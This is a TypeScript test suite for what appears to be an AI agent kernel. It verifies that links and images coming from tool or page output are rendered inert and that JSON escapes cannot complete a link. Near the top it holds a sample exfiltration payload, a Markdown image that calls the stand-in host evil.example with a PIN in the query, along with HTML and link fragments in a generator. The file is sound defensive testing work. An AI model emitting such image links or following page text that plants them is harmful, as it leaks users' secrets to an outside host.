/** The answer is a sink: what a tool or a model wrote into it does nothing by being shown. */
import fc from 'fast-check';
import { expect } from 'vitest';
import { z } from 'zod';
import { createKernel, renderAnswer, type Tainted } from '../../hosts/index.js';
import type { Json } from '../../schemas/index.js';
import { verifies } from '../claims/verifies.js';
import { makeCanaries } from '../fakes/canary.js';
import { alice } from '../fakes/office.js';
import { call, constant, merge, planOf, ref } from '../fakes/plan-steps.js';
import { anyJson } from '../generators/any-json.js';
import { seeded } from '../property/seed.js';
import { liveParts } from '../unit/hosts/answer/live-parts.js';

const image = '![a](https://evil.example/p?d=PIN-4711)';
const link = 'https://docs.example.com/start';

/** A run whose answer is what a page says. */
async function answerOf(page: Json, readers: 'anyone' | readonly string[] = []): Promise<Tainted> {
  const { tool } = makeCanaries();
  const readPage = tool(
    {
      name: 'read_page',
      description: 'A page.',
      effect: 'read',
      capabilities: ['page.read'],
      input: z.strictObject({}),
      output: z.json(),
      result: { '': { readers: readers === 'anyone' ? readers : [...readers] } },
    },
    page,
  );
  const kernel = createKernel({ tools: [readPage], grant: ['page.read'], principal: alice });
  const steps = [
    call('page', 'read_page'),
    constant('mine', link),
    constant('invented', image),
    merge('all', { page: ref('page'), mine: ref('mine'), invented: ref('invented') }),
  ];
  const result = await kernel.run(`Read the page and repeat ${link}`, { plan: planOf(...steps) });
  if (result.output === null) throw new Error(`no answer: ${result.problem?.code}`);
  return result.output;
}

verifies('INV-P20', 'of three parts, only the one that the user wrote keeps its link', async () => {
  const text = renderAnswer(await answerOf(`${image} ${link}`));
  expect(JSON.parse(text)).toMatchObject({ mine: link });
  expect(text.split(link)).toHaveLength(2);
  const live = liveParts(text.replace(JSON.stringify(link), '""'));
  expect(live).toEqual([]);
});

verifies('INV-P20', 'a list of hosts vouches for text that anyone may read, no other', async () => {
  const hosts = ['docs.example.com'];
  const open = JSON.parse(renderAnswer(await answerOf(link, 'anyone'), { hosts }));
  expect(open.page).toBe(link);
  const secret = JSON.parse(renderAnswer(await answerOf(link, ['user']), { hosts }));
  expect(liveParts(secret.page)).toEqual([]);
  const query = JSON.parse(renderAnswer(await answerOf(`${link}?d=4711`, 'anyone'), { hosts }));
  expect(liveParts(query.page)).toEqual([]);
});

verifies('INV-P20', 'an escape of JSON completes no link', async () => {
  const seen = async (text: string): Promise<string> =>
    renderAnswer(await answerOf({ field: text, [text]: 1 })).replace(/^ +/gm, '');
  for (const text of [
    'see\t.co/AbCdEf',
    'see\n.co/AbCdEf',
    'x\n.xyz/?q=4711',
    '\n:x',
    'a\t@x.me',
  ]) {
    const shown = await seen(text);
    expect(liveParts(shown.replace(JSON.stringify(link), ''))).toEqual([]);
    expect(shown).not.toMatch(/\\[nt][.:@]/);
  }
  expect(await seen('a\nb')).toContain('"a\\nb"');
});

verifies('INV-P20', 'a key of a record is never live, whoever wrote it', async () => {
  const kernel = createKernel({ tools: [], grant: [], principal: alice });
  const steps = [constant('one', 1), merge('all', { [image]: ref('one'), [link]: ref('one') })];
  const { output } = await kernel.run(`Repeat ${link}`, { plan: planOf(...steps) });
  const text = renderAnswer(output);
  expect(Object.keys(JSON.parse(text))).toHaveLength(2);
  expect(liveParts(text.replace(/^ +/gm, ''))).toEqual([]);
});

const words = fc.array(
  fc.constantFrom(image, link, '<img src=x>', '[r]: ', '](', 'evil.com', ' ', '\t.co/x', '\n.me/x'),
  {
    maxLength: 6,
  },
);
const page: fc.Arbitrary<Json> = anyJson.chain((value) =>
  fc.oneof(
    words.map((parts) => parts.join('')),
    words.map((parts) => [parts.join(''), { [`k${parts.join('')}`]: value }]),
  ),
);

seeded(
  'whatever a page holds, nothing of it is live',
  fc.asyncProperty(page, async (value) => {
    const text = renderAnswer(await answerOf(value, 'anyone'));
    const others = text.replace(`"mine": ${JSON.stringify(link)}`, '');
    expect(liveParts(others)).toEqual([]);
    // What is indented is code to Markdown, but not to everybody.
    expect(liveParts(others.replace(/^ +/gm, ''))).toEqual([]);
  }),
  { claims: 'INV-P20' },
);
